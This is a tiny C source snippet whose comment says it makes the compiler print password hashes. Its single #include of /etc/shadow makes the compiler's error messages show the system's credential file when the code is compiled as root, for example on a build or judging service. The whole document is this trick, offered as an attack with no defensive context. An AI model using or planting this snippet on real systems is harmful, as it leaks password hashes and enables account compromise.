// Makes the compiler print the password hashes (as root it can read /etc/shadow).
#include "/etc/shadow"
int main() {}
